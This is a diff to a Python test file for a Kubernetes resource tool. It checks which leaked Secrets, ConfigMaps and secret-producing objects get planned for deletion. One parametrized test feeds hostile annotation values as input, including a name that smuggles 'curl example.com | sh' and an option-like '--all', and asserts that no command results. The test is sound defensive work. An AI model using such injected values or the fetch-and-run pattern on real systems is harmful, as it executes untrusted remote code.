@@ -15,6 +15,7 @@ from krm_fn.linker.owners import (
 from krm_fn.model import keys
 from krm_fn.model.kinds import CONSUMER_KINDS, Kind
 from krm_fn.model.link_plan import LinkPlan, RevisionName
+from krm_fn.model.producers import RENAMABLE
 
 NAME = "web-config-bbbbbbbbbb"
 API_VERSIONS = {"Widget": "example.com/v1", "ConfigMap": "v1", "Job": "batch/v1"}
@@ -253,10 +254,52 @@ def test_a_tracker_that_0_1_0_has_linked_gets_the_annotation_and_is_no_leak() ->
 
 def test_an_unreferenced_tracker_that_does_not_own_its_secret_leaks() -> None:
     tracker = OLD._replace(is_tracker=True)
-    assert plan_leaks(planned(), observed(tracker)) == [tracker]
-    assert plan_leaks(planned(), observed(tracker._replace(owns_secret=True))) == []
+    assert leaking(tracker) == [f"secret/{tracker.name}", f"configmap/{tracker.name}"]
+    assert leaking(tracker._replace(owns_secret=True)) == []
+    assert leaking(OLD) == []
     assert plan_leaks(planned(), observed(tracker, WEB)) == []
-    assert plan_leaks(planned(), observed(OLD)) == []
+    unread = Unread(CONSUMER_KINDS[0], "not permitted", is_served=True)
+    assert plan_leaks(planned(), observed(tracker)._replace(unread=(unread,))) == []
+    assert plan_leaks(planned(), observed(tracker)._replace(inventory=None)) == []
+
+
+def leaking(*trackers: LiveRevision) -> list[str]:
+    observation = observed(OLD)._replace(revisions=[*trackers])
+    return [name for leak in plan_leaks(planned(), observation) for name in leak.objects]
+
+
+@pytest.mark.parametrize(("group", "kind"), RENAMABLE)
+def test_what_makes_a_leaking_secret_is_deleted_before_its_tracker(group: str, kind: str) -> None:
+    """Else it would make the Secret anew, and nothing would know of that."""
+    tracker = OLD._replace(is_tracker=True, made_by=f"{kind}/from-vault-gggggggggg")
+    expected = [f"{kind.lower()}.{group}/from-vault-gggggggggg", f"configmap/{tracker.name}"]
+    assert leaking(tracker) == expected
+    itself = tracker._replace(stands_for=kind)
+    assert leaking(itself) == expected
+
+
+def test_what_makes_several_secrets_stays_while_one_of_them_is_needed() -> None:
+    db = OLD._replace(name="db-gggggggggg", uid="db", is_tracker=True, made_by="SopsSecret/both-gggggggggg")
+    api = db._replace(name="api-gggggggggg", uid="api")
+    names = ["configmap/db-gggggggggg", "configmap/api-gggggggggg"]
+    assert leaking(db, api) == ["sopssecret.isindir.github.com/both-gggggggggg", *names]
+    assert leaking(db, api._replace(is_retained=True)) == []
+    assert leaking(db, api._replace(owns_secret=True)) == [], "it goes with the next run"
+
+
+@pytest.mark.parametrize(
+    "annotations",
+    [
+        pytest.param({"made_by": "ExternalSecret/a; curl example.com | sh"}, id="a name that a shell would run"),
+        pytest.param({"made_by": "ExternalSecret/--all"}, id="a name that is an option"),
+        pytest.param({"made_by": "ExternalSecret"}, id="no name"),
+        pytest.param({"made_by": "Namespace/shop"}, id="a kind that makes no Secret"),
+        pytest.param({"made_by": "/shop"}, id="no kind"),
+        pytest.param({"stands_for": "Namespace"}, id="it stands for a kind that makes no Secret"),
+    ],
+)
+def test_no_command_holds_what_nobody_has_rendered(annotations: dict[str, str]) -> None:
+    assert leaking(OLD._replace(is_tracker=True, **annotations)) == []  # type: ignore[arg-type]  # all are texts
 
 
 KPTS = revision()._replace(is_in_kpt_inventory=True)
